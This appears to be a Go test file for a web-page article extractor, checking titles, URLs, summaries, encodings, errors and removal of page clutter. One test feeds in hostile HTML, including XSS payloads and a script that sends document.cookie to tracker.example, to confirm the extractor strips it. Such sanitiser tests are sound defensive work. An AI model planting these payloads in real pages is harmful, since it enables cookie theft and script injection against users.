package article

import (
	"os"
	"strings"
	"testing"
	"time"

	"syndicate"
)

func TestFromPageNewsPage(t *testing.T) {
	page, err := os.ReadFile("testdata/news-page.html")
	if err != nil {
		t.Fatal(err)
	}
	a, err := FromPage(page, "https://gazette.example.com/news/2024/05/night-ferry?ref=home", opts())
	if err != nil {
		t.Fatal(err)
	}
	check(t, a, want{
		title:   "Harbour Town votes to keep its night ferry",
		url:     "https://gazette.example.com/news/2024/05/night-ferry",
		author:  "Ana Reyes",
		summary: "Harbour Town council voted on Tuesday night to keep the late ferry to the islands running for at least another three years, reversing a plan to cut the service in the autumn.", // issue 9: og:description is a dek the page does not print
		image:   "https://gazette.example.com/media/2024/05/ferry-at-night.jpg",
		date:    time.Date(2024, 5, 14, 17, 30, 0, 0, time.UTC),
		tags:    []string{"Transport", "Harbour Town"},
		bodyHas: []string{
			"Harbour Town council voted on Tuesday night to keep the late ferry",
			"the town’s hotels and restaurants.",
			"“This ferry is not a luxury,” said councillor Mei Tanaka",
			"Costs and subsidy",
			"about £180,000 a year",
			"reserves & parking income.",
			"The council will review the subsidy in 2027",
		},
		bodyHasNot: []string{
			"cookies", "Skip to content", "Subscribe today", "Sport", "Home ›", "By Ana", "Transport Correspondent",
			"Photo: Gazette staff", "Share on", "Related", "Bus fares", "Most read", "Storm warning",
			"inbox", "Sign up", "©", "Privacy", "dataLayer", "injected", "JSON-LD", "&amp;", "&#8217;", "<",
		},
	})
	paras := strings.Split(a.Body, "\n\n")
	if len(paras) != 7 {
		t.Errorf("body has %d paragraphs, want 7:\n%s", len(paras), a.Body)
	}
	if !strings.HasPrefix(a.Body, "Harbour Town council voted") {
		t.Errorf("body starts %.40q, want the first paragraph of the story", a.Body)
	}
	if err := a.Validate(); err != nil {
		t.Error(err)
	}
}

func TestFromPageURLs(t *testing.T) {
	page := []byte(`<html><head><title>T</title><meta property="og:image" content="img/a.png"></head><body><p>Text.</p></body></html>`)
	tests := []struct {
		name, pageURL string
		o             Options
		url, image    string
	}{
		{"page URL is the fallback", "https://e.example/a/b?x=1#top", opts(), "https://e.example/a/b?x=1", "https://e.example/a/img/a.png"},
		{"Options.URL overrides", "https://e.example/a/b", Options{URL: "https://other.example/c", Now: opts().Now}, "https://other.example/c", "https://e.example/a/img/a.png"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a, err := FromPage(page, tt.pageURL, tt.o)
			if err != nil {
				t.Fatal(err)
			}
			if a.URL != tt.url || a.Image != tt.image {
				t.Errorf("url, image = %q, %q, want %q, %q", a.URL, a.Image, tt.url, tt.image)
			}
		})
	}

	// og:url is used when there is no canonical link, and without a page
	// URL it is also the base of a relative image.
	a, err := FromPage([]byte(`<title>T</title><meta property="og:url" content="https://e.example/og"><meta property="og:image" content="x.png"><p>Text.</p>`), "", opts())
	if err != nil {
		t.Fatal(err)
	}
	if a.URL != "https://e.example/og" || a.Image != "https://e.example/x.png" {
		t.Errorf("url, image = %q, %q", a.URL, a.Image)
	}
}

func TestFromPageFallbacks(t *testing.T) {
	page := `<!DOCTYPE html><html><head><title>Notes on Slow Software</title></head>
<body><div class="wrap">
<h1>Notes on Slow Software</h1>
<div class="post">
<p>Software gets slower as it grows, and nobody notices the day it happens, because every change makes it only a little worse than the day before.</p>
<p>The fix is not heroics but a habit: measure the thing people wait for, write the number down, and look at it every week until it stops moving the wrong way.</p>
<p>Most of the time the slow part is not the code anyone suspected, and finding that out is the whole job.</p>
</div></div></body></html>`
	a, err := FromPage([]byte(page), "https://blog.example.org/slow", opts())
	if err != nil {
		t.Fatal(err)
	}
	check(t, a, want{
		title:   "Notes on Slow Software",
		url:     "https://blog.example.org/slow",
		summary: "Software gets slower as it grows, and nobody notices the day it happens, because every change makes it only a little worse than the day before.",
		bodyHas: []string{"The fix is not heroics", "finding that out is the whole job."},
	})
	if strings.Count(a.Body, "\n\n") != 2 {
		t.Errorf("body = %q, want three paragraphs", a.Body)
	}

	// With no <title>, the first <h1> names the page.
	a, err = FromPage([]byte(`<body><h1>Only a Heading</h1><p>And a paragraph of text.</p></body>`), "https://e.example/h", opts())
	if err != nil {
		t.Fatal(err)
	}
	if a.Title != "Only a Heading" || a.Summary != "And a paragraph of text." {
		t.Errorf("title, summary = %q, %q", a.Title, a.Summary)
	}
}

func TestFromPageHostile(t *testing.T) {
	page := `<html><head>
<title>Free &lt;script&gt;alert(1)&lt;/script&gt; Prizes</title>
<meta property="og:title" content="Win &lt;b onmouseover=alert(1)&gt;big&lt;/b&gt;">
<meta property="og:image" content="javascript:alert(document.cookie)">
<meta property="og:description" content="<script>alert(1)</script>Second paragraph, with a link and an image.">
<meta name="author" content="Eve&#x202e;evil">
<script>fetch("https://tracker.example/?c=" + document.cookie)</script>
<style>p { display: block }</style>
</head><body onload="alert(1)">
<article>
<p>First paragraph of the article, which is long enough to look like the real content of this page to readability.<script>alert("inline")</script></p>
<p onclick="alert(2)">Second paragraph, with <a href="javascript:alert(3)">a link</a> and <img src=x onerror="alert(4)"> an image.</p>
<noscript><p>Please enable JavaScript</p></noscript>
<iframe src="https://ads.example/frame"></iframe>
<p>Third paragraph &amp; the end.</p>
</article></body></html>`
	a, err := FromPage([]byte(page), "https://e.example/hostile", opts())
	if err != nil {
		t.Fatal(err)
	}
	if a.Image != "" {
		t.Errorf("image = %q, want none", a.Image)
	}
	if a.Title != "Win big" || a.Summary != "Second paragraph, with a link and an image." || a.Author != "Eveevil" {
		t.Errorf("title, summary, author = %q, %q, %q", a.Title, a.Summary, a.Author)
	}
	for _, bad := range []string{"alert", "script", "tracker", "JavaScript", "display", "<", "onclick"} {
		if strings.Contains(a.Body, bad) {
			t.Errorf("body contains %q:\n%s", bad, a.Body)
		}
	}
	if !strings.Contains(a.Body, "Second paragraph, with a link and an image.") || !strings.Contains(a.Body, "Third paragraph & the end.") {
		t.Errorf("body = %q", a.Body)
	}
}

func TestFromPageEncoding(t *testing.T) {
	// "Café" in Windows-1252, as an old page declares it.
	page := []byte("<html><head><meta charset=\"windows-1252\"><title>Caf\xe9 news</title></head><body><p>The caf\xe9 opens.</p></body></html>")
	a, err := FromPage(page, "https://e.example/cafe", opts())
	if err != nil {
		t.Fatal(err)
	}
	if a.Title != "Café news" || a.Body != "The café opens." {
		t.Errorf("title, body = %q, %q", a.Title, a.Body)
	}
}

func TestFromPageErrors(t *testing.T) {
	tests := []struct {
		name, pageURL string
		in            []byte
		msg           string
	}{
		{"empty", "https://e.example/", []byte("  \n"), "web page https://e.example/ is empty"},
		{"binary", "https://e.example/", []byte("GIF89a\x00\x01\x02"), "web page https://e.example/ is not text"},
		{"too large", "", []byte(strings.Repeat("x", MaxPageSize+1)), "web page is larger than 5242880 bytes"},
		{"no URL", "", []byte("<title>T</title><p>x</p>"), "web page has no URL; give one with --url"},
		{"no title", "https://e.example/", []byte("<p>Just text.</p>"), "web page https://e.example/ has no title"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := FromPage(tt.in, tt.pageURL, opts())
			if err == nil {
				t.Fatal("no error")
			}
			if code := syndicate.ErrorCode(err); code != syndicate.EINVALID {
				t.Errorf("code = %q, want %q (%v)", code, syndicate.EINVALID, err)
			}
			if !strings.Contains(err.Error(), tt.msg) {
				t.Errorf("error %q does not contain %q", err, tt.msg)
			}
		})
	}
}

// TestParseHTMLUsesPage checks that an .html file goes the same way as a
// fetched page, resolving relative links against --url.
func TestParseHTMLUsesPage(t *testing.T) {
	f, err := os.Open("testdata/news-page.html")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	o := opts()
	o.URL = "https://mirror.example.net/copy.html"
	a, err := Parse("news-page.html", f, o)
	if err != nil {
		t.Fatal(err)
	}
	if a.URL != "https://mirror.example.net/copy.html" || a.Image != "https://mirror.example.net/media/2024/05/ferry-at-night.jpg" {
		t.Errorf("url, image = %q, %q", a.URL, a.Image)
	}
	if !strings.HasPrefix(a.Body, "Harbour Town council voted") || strings.Contains(a.Body, "Related") {
		t.Errorf("body = %q", a.Body)
	}
}

// TestFromPageLinkLists checks a page with no landmark elements and no
// telling class names: readability, not the page walk, tells the story
// from the lists of links around it.
func TestFromPageLinkLists(t *testing.T) {
	links := `<div class="box"><b>Trending now</b><ul>` + strings.Repeat(`<li><a href="/x">Another headline you might click on today</a></li>`, 8) + `</ul></div>`
	page := `<html><head><title>Tide Mills Reopen</title></head><body>` + links + `
<div class="box"><div class="box">
<p>The restored tide mills on the estuary opened to visitors on Saturday after a twelve-year restoration paid for by local donations and a heritage grant.</p>
<p>Volunteers rebuilt the wheel using oak from a nearby estate, and the mill will grind flour on the two days a month when the tides are high enough to turn it.</p>
<p>Entry is free for children, and the café in the old granary opens at ten.</p>
</div></div>` + links + `</body></html>`
	a, err := FromPage([]byte(page), "https://e.example/mills", opts())
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(a.Body, "Trending") || strings.Contains(a.Body, "headline") {
		t.Errorf("link lists left in the body:\n%s", a.Body)
	}
	if !strings.HasPrefix(a.Body, "The restored tide mills") || !strings.HasSuffix(a.Body, "opens at ten.") {
		t.Errorf("body = %q", a.Body)
	}
}
